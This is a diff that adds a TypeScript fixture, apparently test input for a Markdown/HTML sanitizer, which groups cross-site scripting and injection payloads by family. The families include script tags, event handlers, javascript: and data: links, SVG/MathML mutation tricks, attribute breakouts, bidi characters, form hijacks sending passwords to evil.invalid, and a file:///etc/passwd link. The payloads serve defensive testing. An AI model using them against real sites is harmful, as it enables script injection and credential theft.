@@ -1,0 +1,165 @@
+/**
+ * Ways to make a page run, load or become what its author didn't mean, by family. Whatever runs calls `ran()`; whatever
+ * loads asks `evil.invalid`. The first of each is short enough for a label or a name.
+ */
+const load = 'http://evil.invalid/x';
+
+export const hostileText: Readonly<Record<string, readonly string[]>> = {
+  'script elements': [
+    '<script>ran(1)</script>',
+    `<script src=${load}></script>`,
+    '<scr<script>ipt>ran(1)</scr</script>ipt>',
+    '</title></textarea></style></noscript><script>ran(1)</script>',
+    '<SCRIPT\u000bTYPE=module>import("http://evil.invalid/x")</SCRIPT >',
+  ],
+  'event handlers': [
+    '<img src=x onerror=ran(1)>',
+    '<body onload=ran(1)>',
+    '<details open ontoggle=ran(1)><summary>a</summary></details>',
+    '<input autofocus onfocus=ran(1)>',
+    '<div onpointerover="ran(1)" style="position:fixed;inset:0">a</div>',
+    '<video><source onerror=ran(1)></video>',
+  ],
+  'javascript links': [
+    '[a](javascript:ran(1))',
+    '[a](JaVaScRiPt:ran(1)) [b]( javascript:ran(1)) [c](<java\tscript:ran(1)>)',
+    '[a](javascript&colon;ran(1)) [b](&#x6A;avascript:ran(1)) [c](\u0001javascript:ran(1))',
+    '<javascript:ran(1)> <a href="javascript:ran(1)" autofocus>a</a>',
+    '[a][j]\n\n[j]: javascript:ran(1)',
+  ],
+  'data links': [
+    '[a](data:text/html,<script>ran(1)</script>)',
+    '![a](data:image/svg+xml,<svg/onload=ran(1)>)',
+    '[a](DATA:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)',
+    '<data:text/html,<script>ran(1)</script>>',
+  ],
+  'other schemes': [
+    '[a](vbscript:ran(1)) [b](file:///etc/passwd)',
+    '[a](blob:http://evil.invalid/1) [b](filesystem:http://evil.invalid/1) [c](view-source:x) [d](about:blank#ran)',
+    '[a](//evil.invalid/x) [b](\\\\evil.invalid\\x) [c](/\\evil.invalid/x) [d](http:evil.invalid)',
+    '[a](intent://evil.invalid#Intent;scheme=x;end) [b](ms-settings:x)',
+  ],
+  'SVG and MathML': [
+    '<svg onload=ran(1)>',
+    '<svg><script>ran(1)</script></svg>',
+    `<svg><use href="${load}#a"/><image href="${load}"/></svg>`,
+    '<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">',
+    '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">',
+  ],
+  'malformed HTML': [
+    '<img src=x onerror=ran(1)//',
+    '<<img src=x onerror=ran(1)>>',
+    '<img """><script>ran(1)</script>">',
+    '<a <b href=javascript:ran(1)>a',
+    '<div\n\nonclick=ran(1)\n>\u0000<scr\u0000ipt>ran(1)</script>',
+    '</p></article></main></body></html><script>ran(1)</script>',
+  ],
+  entities: [
+    '&lt;script&gt;ran(1)&lt;/script&gt;',
+    '&#60;script&#62;ran(1)&#60;/script&#62; &#x3c;img src=x onerror=ran(1)&#x3e',
+    '&amp;lt;script&amp;gt;ran(1) &ltscript&gtran(1)',
+    '[a](&#106;&#97;&#118;ascript:ran(1)) &NewLine;&Tab;&lbrace;&quot;&apos;&#0;&#xD800;&#1114112;',
+  ],
+  pictures: [
+    `![a](${load})`,
+    `![a](${load} "onerror=ran(1)") ![a"onerror="ran(1)](${load})`,
+    `[![a](${load})](javascript:ran(1)) ![![b](${load})](${load})`,
+    `<picture><source srcset="${load}"><img src="${load}" srcset="${load} 2x"></picture>`,
+    `![a][p]\n\n[p]: ${load}`,
+  ],
+  'link tricks': [
+    '[a](https://a.example" onclick="ran(1))',
+    '[a](https://a.example "a\\" onclick=\\"ran(1)")',
+    '[a](<https://a.example" onfocus="ran(1)" autofocus="> "t")',
+    "[a\n](https://a.example'onclick=ran(1)) [<img src=x onerror=ran(1)>](https://a.example)",
+    '[constructor]: javascript:ran(1)\n\n[constructor] [__proto__] [toString][]',
+  ],
+  autolinks: [
+    '<https://a.example/"onclick=ran(1)>',
+    'https://a.example/"onmouseover="ran(1) https://a.example/<script>ran(1)</script>',
+    'javascript:ran(1) mailto:a@b.example?subject="><script>ran(1)</script>',
+    '<mailto:"><img/src=x/onerror=ran(1)>@a.example> ftp://evil.invalid/x',
+  ],
+  'attribute breakouts': [
+    '"><img src=x onerror=ran(1)>',
+    "' onfocus=ran(1) autofocus tabindex=1 x='",
+    '` onclick=ran(1) `" style="background:url(http://evil.invalid/x)" x="',
+    '"/><meta http-equiv="refresh" content="0;url=http://evil.invalid/x">',
+    '\\"><script>ran(1)</script>',
+  ],
+  'unseen and turned characters': [
+    '\u202E\u2066<script>ran(1)</script>\u2069\u202C',
+    'a\u200b\u200d\u2060\ufeff\u00adb \u2028 \u2029 \u{E0041}\u{E007F}',
+    'if (admin) { /* \u202E } \u2066 begin \u2069 \u2066 */ ran(1)',
+    `${'Z\u0300\u0301\u0302\u0303'.repeat(200)} مرحبا \u061C <b onclick=ran(1)>`,
+    '＜script＞ran(1)＜/script＞ \u017fcript \u212Aelvin',
+  ],
+  'meta and base': [
+    '<meta http-equiv=refresh content=0;//evil.invalid>',
+    '<base href=http://evil.invalid/><a href=x>a</a>',
+    `<link rel=stylesheet href=${load}><link rel=prefetch href=${load}><link rel=dns-prefetch href=//evil.invalid>`,
+    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
+  ],
+  frames: [
+    '<iframe src=javascript:ran(1)>',
+    `<iframe srcdoc="<script>parent.ran(1)</script>"></iframe><iframe src=${load}></iframe>`,
+    `<object data=${load}></object><embed src=${load}><portal src=${load}></portal>`,
+    `<frameset><frame src=${load}></frameset><fencedframe></fencedframe>`,
+  ],
+  styles: [
+    '<style>@import "//evil.invalid/x"</style>',
+    `<p style="background:url(${load});position:fixed;inset:0;z-index:9">a</p>`,
+    '<style>*{display:none}</style><link rel=stylesheet href=//evil.invalid/x>',
+    `<div style="x:expression(ran(1));behavior:url(${load});-moz-binding:url(${load})">a</div>`,
+    '| a |\n| :-: |\n| <td style="x" onclick=ran(1)> |',
+  ],
+  forms: [
+    '<form action=//evil.invalid/x><button>a</button>',
+    `<form id=f><input name=password></form><button form=f formaction=${load}>Sign in</button>`,
+    '<input type=image src=http://evil.invalid/x formaction=javascript:ran(1)>',
+    '<isindex type=image src=http://evil.invalid/x onerror=ran(1)><textarea autofocus onfocus=ran(1)>',
+  ],
+  templates: [
+    '{{constructor.constructor("ran(1)")()}}',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands.
+    '${ran(1)} #{ran(1)} <%= ran(1) %> {% ran(1) %} {ran(1)} [[ran(1)]] @{ran(1)} `${ran(1)}`',
+    '<template><script>ran(1)</script></template><slot name=a></slot><template shadowrootmode=open><img src=x onerror=ran(1)></template>',
+    '<div set:html="<img src=x onerror=ran(1)>" v-html="ran(1)" x-init="ran(1)" ng-app></div>',
+    "$& $1 $` $' $$ %s %d \\u003cscript\\u003eran(1)\\u003c/script\\u003e",
+  ],
+  'names of prototypes': [
+    '__proto__',
+    '# __proto__\n\n# constructor\n\n# hasOwnProperty\n\n# toString\n\n# __proto__',
+    '```__proto__\na\n```\n\n```constructor\na\n```\n\n```toString\na\n```',
+    '[a](#__proto__) [a](#constructor) [a](constructor) [a](__proto__)',
+  ],
+  'comments and sections': [
+    '<!--><img src=x onerror=ran(1)>-->',
+    '<!-- --!><img src=x onerror=ran(1)> -->',
+    '<![CDATA[<script>ran(1)</script>]]> <?xml-stylesheet href="http://evil.invalid/x"?> <!DOCTYPE html [<!ENTITY a SYSTEM "http://evil.invalid/x">]>',
+    '<!--[if true]><script>ran(1)</script><![endif]--> <noscript><p title="</noscript><img src=x onerror=ran(1)>">',
+    '<plaintext><xmp><listing><script>ran(1)</script>',
+  ],
+  'headings as ids': [
+    '# content',
+    '# document\n\n# forms\n\n# cookie\n\n# body\n\n# location\n\n# getElementById\n\n# L1\n\n# way-0\n\n# files',
+    '<a id=document name=cookie></a><form id=body><input name=attributes></form><img name=getElementById>',
+    '# <img src=x onerror=ran(1)>\n\n## "onclick="ran(1)\n\n## javascript:ran(1)',
+    '[a](#content) [a](#L1) [a](#md-content) [a](#"onclick=ran(1))',
+  ],
+  'deep nesting': [
+    '> > > > > > > > > > > > > > > > a',
+    `${'> '.repeat(200)}<script>ran(1)</script>`,
+    `${'['.repeat(500)}a${'](javascript:ran(1))'.repeat(500)}`,
+    `${'*'.repeat(2000)}a${'_'.repeat(2000)} ${'<div>'.repeat(500)}`,
+    Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
+  ],
+  'code and its language': [
+    '`<script>ran(1)</script>`',
+    '```html\n<script>ran(1)</script>\n```',
+    '```"><script>ran(1)</script>\na\n```',
+    '~~~js" onclick="ran(1)\nlet a = "</code></pre><script>ran(1)</script>";\n~~~',
+    '    <img src=x onerror=ran(1)>\n\n```xml\n<!-- </span></code></pre><img src=x onerror=ran(1)> -->\n```',
+  ],
+};
